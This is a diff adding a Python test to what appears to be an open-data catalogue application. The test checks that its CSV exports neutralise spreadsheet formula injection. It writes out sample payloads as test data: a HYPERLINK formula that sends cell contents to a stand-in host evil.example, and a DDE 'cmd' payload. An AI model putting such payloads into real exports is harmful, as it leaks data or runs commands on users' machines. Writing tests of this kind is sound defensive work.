@@ -658,3 +658,21 @@ def test_data_json_says_open_periods_and_several_places_as_pod_allows(client, se
     assert by_id["ID-2"]["spatial"] == "urn:gb2260:330700"  # one place as before
     west, south, east, north = map(float, by_id["ID-1"]["spatial"].split(","))
     assert 119 < west < east < 121 and 28 < south < north < 30  # 金华市 and its county 义乌市
+
+
+def test_catalog_csv_cells_are_not_run_as_spreadsheet_formulas(client, session):
+    """A source's title `=HYPERLINK(...)` was written to /catalog.csv as it is, and the spreadsheet an official
+    opens the export in runs it (CSV injection). Such cells start with an apostrophe; other cells are as they were."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    record = complete("formula", {"en": evil, "zh": "公交站点"}, 5)
+    record["description"] = {"en": "+cmd|' /C calc'!A0"}
+    record["keywords"] = ["@SUM(1)", "bus"]
+    _save(session, [record, complete("plain", {"en": "Air - hourly"}, 6)])
+    for path in ("/catalog.csv", "/dataset/formula.csv"):
+        rows = {r["slug"]: r for r in csv.DictReader(io.StringIO(client.get(path).get_data(as_text=True)))}
+        row = rows["formula"]
+        assert row["title_en"] == "'" + evil and row["title"] == "'" + evil, path
+        assert row["description"] == "'+cmd|' /C calc'!A0" and row["keywords"] == "'@SUM(1);bus"
+        assert row["title_zh"] == "公交站点" and row["slug"] == "formula"
+    plain = {r["slug"]: r for r in csv.DictReader(io.StringIO(client.get("/catalog.csv").get_data(as_text=True)))}
+    assert plain["plain"]["title_en"] == "Air - hourly"
